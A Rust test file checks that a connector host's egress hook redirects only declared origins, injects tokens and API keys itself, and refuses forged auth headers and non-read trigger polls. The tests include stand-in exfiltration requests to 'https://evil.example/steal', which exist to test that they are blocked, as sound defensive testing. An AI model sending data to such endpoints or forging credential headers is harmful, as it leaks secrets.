//! The egress hook, seen from outside: what reaches the network and what not.
//! The probe connector declares `https://probe.example`; connections map it
//! to the sandbox, whose request log shows what arrived.

use connector_tests::*;
use serde_json::json;

fn probe_connection(sandbox: &Sandbox) -> ConnectionFile {
    let extra = format!(
        "[token]\naccess_token = \"{TOKEN}\"\n\n[endpoints]\n\"https://probe.example\" = \"{}\"\n",
        sandbox.url
    );
    ConnectionFile::new(&component("probe_connector"), &extra)
}

fn fetch(connection: &ConnectionFile, url: &str, headers: serde_json::Value) -> Run {
    run(
        connection,
        "fetch",
        &json!({"url": url, "headers": headers}),
    )
}

#[test]
fn declared_origin_is_redirected_and_receives_the_injected_token() {
    let sandbox = Sandbox::start();
    let connection = probe_connection(&sandbox);
    let out = fetch(
        &connection,
        "https://probe.example/v3/account/user/privileges",
        json!([]),
    )
    .ok();
    assert_eq!(out["status"], 200, "{out}");
    let requests = sandbox.requests();
    assert_eq!(requests.len(), 1, "{requests:?}");
    assert_eq!(requests[0]["path"], "/v3/account/user/privileges");
    // Compared, not printed: the token is a canary.
    assert!(
        requests[0]["authorization"] == json!(format!("Bearer {TOKEN}")),
        "the sandbox did not get the injected token"
    );
}

#[test]
fn undeclared_origin_is_denied_with_a_clear_error() {
    let sandbox = Sandbox::start();
    let connection = probe_connection(&sandbox);
    let out = fetch(&connection, "https://evil.example/steal", json!([]));
    out.fails_with(
        4,
        &[
            "denied",
            "https://evil.example",
            "does not declare this origin",
            "hint:",
        ],
    );
    // With a body too: the denial is reported as such, not as a broken body stream.
    let post = json!({"url": "https://evil.example/steal", "method": "POST", "headers": [],
                      "body": "x".repeat(20_000)});
    run(&connection, "fetch", &post).fails_with(4, &["denied", "https://evil.example"]);
    // The override's target is not itself allowed: only the declared name is.
    let direct = fetch(
        &connection,
        &format!("{}/v3/account/user/privileges", sandbox.url),
        json!([]),
    );
    direct.fails_with(4, &["denied", &sandbox.url]);
    assert!(
        sandbox.requests().is_empty(),
        "a denied request reached the network"
    );
}

#[test]
fn guest_cannot_set_authorization() {
    let sandbox = Sandbox::start();
    let connection = probe_connection(&sandbox);
    let headers = json!([["authorization", "Bearer guest-chosen-token"]]);
    let out = fetch(
        &connection,
        "https://probe.example/v3/account/user/privileges",
        headers,
    );
    out.fails_with(4, &["denied", "authorization"]);
    assert!(sandbox.requests().is_empty(), "the request was sent anyway");
}

#[test]
fn no_token_is_sent_when_the_connection_has_none() {
    let sandbox = Sandbox::start();
    let extra = format!(
        "[endpoints]\n\"https://probe.example\" = \"{}\"\n",
        sandbox.url
    );
    let connection = ConnectionFile::new(&component("probe_connector"), &extra);
    let out = fetch(
        &connection,
        "https://probe.example/v3/account/user/privileges",
        json!([]),
    )
    .ok();
    assert_eq!(out["status"], 401, "{out}");
    assert_eq!(
        sandbox.requests()[0]["authorization"],
        serde_json::Value::Null
    );
}

#[test]
fn an_api_key_from_a_field_travels_in_its_header_and_only_when_set() {
    // The probe declares `api-key` in header `x-probe-key` from field `probe_key`.
    let recorder = connector_tests::recorder::Recorder::start(200, json!({}));
    let extra = format!(
        "[fields]\nprobe_key = \"{TOKEN}\"\n\n[endpoints]\n\"https://probe.example\" = \"{}\"\n",
        recorder.url
    );
    let connection = ConnectionFile::new(&component("probe_connector"), &extra);
    let out = fetch(&connection, "https://probe.example/v1/items", json!([])).ok();
    assert_eq!(out["status"], 200, "{out}");
    let seen = recorder.requests();
    assert_eq!(seen.len(), 1);
    assert!(
        seen[0].header("x-probe-key") == Some(&format!("Key {TOKEN}")),
        "the host added the key"
    );
    assert_eq!(seen[0].header("authorization"), None);
    // The guest can neither set nor replace it.
    let forged = fetch(
        &connection,
        "https://probe.example/v1/items",
        json!([["x-probe-key", "guest"]]),
    );
    forged.fails_with(4, &["denied", "x-probe-key"]);
    // Without the (optional) field, nothing is sent.
    let keyless = ConnectionFile::new(
        &component("probe_connector"),
        &format!(
            "[endpoints]\n\"https://probe.example\" = \"{}\"\n",
            recorder.url
        ),
    );
    assert_eq!(
        fetch(&keyless, "https://probe.example/v1/none", json!([])).ok()["status"],
        200
    );
    assert_eq!(
        recorder.requests().last().unwrap().header("x-probe-key"),
        None
    );
}

#[test]
fn a_trigger_poll_can_only_read_whatever_its_connector_sends() {
    let recorder = connector_tests::recorder::Recorder::start(200, json!({}));
    let extra = format!(
        "[fields]\nprobe_key = \"{TOKEN}\"\n\n[endpoints]\n\"https://probe.example\" = \"{}\"\n",
        recorder.url
    );
    let connection = ConnectionFile::new(&component("probe_connector"), &extra);
    let path = connection.path.display().to_string();
    let watch_once = |settings: serde_json::Value| {
        host(&[
            "watch",
            &path,
            "fetched",
            "--once",
            "--settings",
            &settings.to_string(),
        ])
    };
    let poll = |method: &str| {
        watch_once(json!({"url": "https://probe.example/v1/items", "method": method}))
    };
    for method in ["POST", "PUT", "PATCH", "DELETE"] {
        let refused = poll(method);
        assert_ne!(refused.code, 0, "{refused:#?}");
        assert!(
            refused.stderr.contains(&format!("a {method} request to https://probe.example was refused: a trigger poll may only read")),
            "{refused:#?}"
        );
    }
    // Settings are checked against the trigger's parameters before it runs.
    watch_once(json!({"url": 3, "method": "GET"}))
        .fails_with(2, &["settings.url", "expected a string"]);
    watch_once(json!({"url": "https://probe.example/v1/items"}))
        .fails_with(2, &["settings.method"]);
    assert!(recorder.requests().is_empty(), "no write left the host");
    let read = poll("GET");
    assert_eq!(read.code, 0, "{read:#?}");
    let event: serde_json::Value = serde_json::from_str(read.stdout.trim()).unwrap();
    assert_eq!(event["data"]["status"], 200);
    let seen = recorder.requests();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].method, "GET");
    assert_eq!(
        seen[0].header("x-probe-key"),
        Some(format!("Key {TOKEN}").as_str()),
        "a poll carries the credential like any call"
    );
}
